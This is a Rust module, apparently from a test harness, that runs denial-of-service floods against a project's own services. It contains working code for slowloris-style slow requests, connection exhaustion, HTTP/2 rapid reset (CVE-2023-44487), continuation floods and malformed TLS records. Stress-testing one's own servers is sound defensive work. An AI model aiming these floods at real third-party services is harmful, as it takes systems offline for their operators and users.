//! Attacks that live by their number or their patience. What they meet is not judged here but in those who behave.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use super::Target;

pub(super) struct Flood {
    pub(super) name: &'static str,
    /// Which services it is tried at.
    pub(super) at: fn(&str) -> bool,
    pub(super) attack: fn(&Target) -> Result<(), String>,
}

fn everywhere(_: &str) -> bool {
    true
}

pub(super) const FLOODS: [Flood; 12] = [
    Flood { name: "slow headers", at: everywhere, attack: slow_headers },
    Flood { name: "slow bodies", at: everywhere, attack: slow_bodies },
    Flood { name: "slow reading", at: everywhere, attack: slow_reading },
    // All of one machine: as many as a process may have.
    Flood { name: "5,000 idle connections", at: |name| name == "node", attack: |target| idle(target, 5_000) },
    Flood { name: "500 idle connections", at: |name| name != "node", attack: |target| idle(target, 500) },
    Flood { name: "2,000 connections that come and go", at: everywhere, attack: churn },
    Flood { name: "HTTP/2 rapid reset", at: everywhere, attack: rapid_reset },
    Flood { name: "HTTP/2 continuation flood", at: everywhere, attack: continuation },
    Flood { name: "HTTP/2 pings and settings", at: everywhere, attack: pings },
    Flood { name: "HTTP/2 empty data", at: everywhere, attack: empty_data },
    Flood { name: "HTTP/2 streams that never end", at: everywhere, attack: open_streams },
    Flood { name: "TLS junk", at: everywhere, attack: tls_junk },
];

/// How long patience lasts here.
const PATIENCE: Duration = Duration::from_secs(4);
/// Connections of each patient attack.
const PATIENT: usize = 100;

fn connect(target: &Target) -> Option<TcpStream> {
    let stream = TcpStream::connect_timeout(&target.address, Duration::from_secs(2)).ok()?;
    stream.set_write_timeout(Some(Duration::from_secs(2))).ok()?;
    stream.set_read_timeout(Some(Duration::from_millis(200))).ok()?;
    Some(stream)
}

/// Connections that get these bytes at once, and then one byte each now and then.
fn drip(target: &Target, count: usize, begin: &[u8], byte: u8) -> Result<(), String> {
    let mut open: Vec<_> = (0..count).filter_map(|_| connect(target)).collect();
    for stream in &mut open {
        let _ = stream.write_all(begin);
    }
    let began = Instant::now();
    while began.elapsed() < PATIENCE {
        // Whom the server closed is gone; that is its right.
        open.retain_mut(|stream| stream.write_all(&[byte]).is_ok());
        std::thread::sleep(Duration::from_millis(500));
    }
    Ok(())
}

fn slow_headers(target: &Target) -> Result<(), String> {
    drip(
        target,
        PATIENT,
        format!("GET {} HTTP/1.1\r\nhost: {}\r\nx-slow: ", target.honest, target.address).as_bytes(),
        b'a',
    )
}

fn slow_bodies(target: &Target) -> Result<(), String> {
    let Target { takes, address, media_type, authorization, .. } = target;
    let authorization =
        if authorization.is_empty() { String::new() } else { format!("authorization: {authorization}\r\n") };
    let head = format!(
        "POST {takes} HTTP/1.1\r\nhost: {address}\r\ncontent-type: {media_type}\r\n{authorization}content-length: 60000\r\n\r\n"
    );
    drip(target, PATIENT, head.as_bytes(), b'[')
}

/// Asks for much, and takes a byte now and then.
fn slow_reading(target: &Target) -> Result<(), String> {
    let large = match target.name {
        "node" => "/v1/openapi.json",
        "gateway" => "/v1/openapi.json",
        "verifier" => "/openapi.json",
        "page" => "/index.html",
        _ => "/metrics",
    };
    let request = format!("GET {large} HTTP/1.1\r\nhost: {}\r\n\r\n", target.address).repeat(50);
    let mut open: Vec<_> = (0..PATIENT).filter_map(|_| connect(target)).collect();
    for stream in &mut open {
        let _ = stream.write_all(request.as_bytes());
    }
    let began = Instant::now();
    while began.elapsed() < PATIENCE {
        open.retain_mut(|stream| matches!(stream.read(&mut [0; 1]), Ok(1)));
        std::thread::sleep(Duration::from_millis(500));
    }
    Ok(())
}

fn idle(target: &Target, count: usize) -> Result<(), String> {
    let mut open = Vec::with_capacity(count);
    for _ in 0..count {
        match TcpStream::connect_timeout(&target.address, Duration::from_secs(2)) {
            Ok(stream) => open.push(stream),
            Err(_) => break,
        }
    }
    if open.len() < count.min(500) {
        return Err(format!("only {} connections were taken", open.len()));
    }
    std::thread::sleep(PATIENCE);
    Ok(())
}

fn churn(target: &Target) -> Result<(), String> {
    for number in 0..2_000 {
        if let Some(mut stream) = connect(target)
            && number % 3 == 0
        {
            let _ = stream.write_all(b"GET / HT");
        }
    }
    Ok(())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A GET, or a POST whose body follows, of the service's root: indexed fields and a literal authority (RFC 7541).
fn fields(target: &Target, post: bool) -> Vec<u8> {
    let authority = target.address.to_string();
    let length = u8::try_from(authority.len()).expect("an address is short");
    [&[if post { 0x83 } else { 0x82 }, 0x86, 0x84, 0x41, length][..], authority.as_bytes()].concat()
}

/// Writes pieces until all are written, the server closes, or patience ends. What is answered is read and dropped.
fn pour(target: &Target, pieces: impl Iterator<Item = Vec<u8>>) -> Result<(), String> {
    let Some(mut stream) = connect(target) else { return Err("does not listen".into()) };
    let mut reader = stream.try_clone().map_err(|error| error.to_string())?;
    let drain = std::thread::spawn(move || {
        let mut bytes = vec![0; 65_536];
        let began = Instant::now();
        while began.elapsed() < 2 * PATIENCE {
            match reader.read(&mut bytes) {
                Ok(0) => break,
                Ok(_) => {}
                Err(error) if matches!(error.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => {
                }
                Err(_) => break,
            }
        }
    });
    let began = Instant::now();
    let begin = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    for piece in std::iter::once(begin).chain(pieces) {
        if began.elapsed() > PATIENCE || stream.write_all(&piece).is_err() {
            break;
        }
    }
    let _ = stream.shutdown(std::net::Shutdown::Both);
    drain.join().map_err(|_| "the reader panicked".to_owned())
}

/// CVE-2023-44487.
fn rapid_reset(target: &Target) -> Result<(), String> {
    let fields = fields(target, false);
    let pieces = (0..200).map(|block: u32| {
        let streams = (0..100u32).map(|number| 2 * (block * 100 + number) + 1);
        let one = |stream| {
            let open = frame(HEADERS, END_STREAM | END_HEADERS, stream, &fields);
            [open, frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())].concat()
        };
        streams.flat_map(one).collect()
    });
    pour(target, pieces)
}

/// CVE-2024-27316 and its like: header blocks that never end.
fn continuation(target: &Target) -> Result<(), String> {
    let first = frame(HEADERS, END_STREAM, 1, &fields(target, false));
    // A literal field without indexing: name `x`, value of 250 letters, again and again.
    let field = [&[0x00, 1, b'x', 0x7f, 0x7b][..], &[b'a'; 250]].concat();
    let more = (0..2_000).map(move |_| frame(CONTINUATION, 0, 1, &field.repeat(60)));
    pour(target, std::iter::once(first).chain(more))
}

fn pings(target: &Target) -> Result<(), String> {
    let both = [frame(PING, 0, 0, &[0; 8]), frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])].concat();
    pour(target, (0..500).map(move |_| both.repeat(100)))
}

fn empty_data(target: &Target) -> Result<(), String> {
    let open = frame(HEADERS, END_HEADERS, 1, &fields(target, true));
    let data = frame(DATA, 0, 1, &[]).repeat(1_000);
    pour(target, std::iter::once(open).chain((0..500).map(move |_| data.clone())))
}

fn open_streams(target: &Target) -> Result<(), String> {
    let fields = fields(target, true);
    pour(target, (0..5_000u32).map(move |number| frame(HEADERS, END_HEADERS, 2 * number + 1, &fields)))
}

fn tls_junk(target: &Target) -> Result<(), String> {
    for number in 0..200u8 {
        let Some(mut stream) = connect(target) else { continue };
        let record = [&[0x16, 3, 1 + number % 4, 0xff, 0xff, 1][..], &[number; 2_000]].concat();
        let _ = stream.write_all(&record);
    }
    Ok(())
}
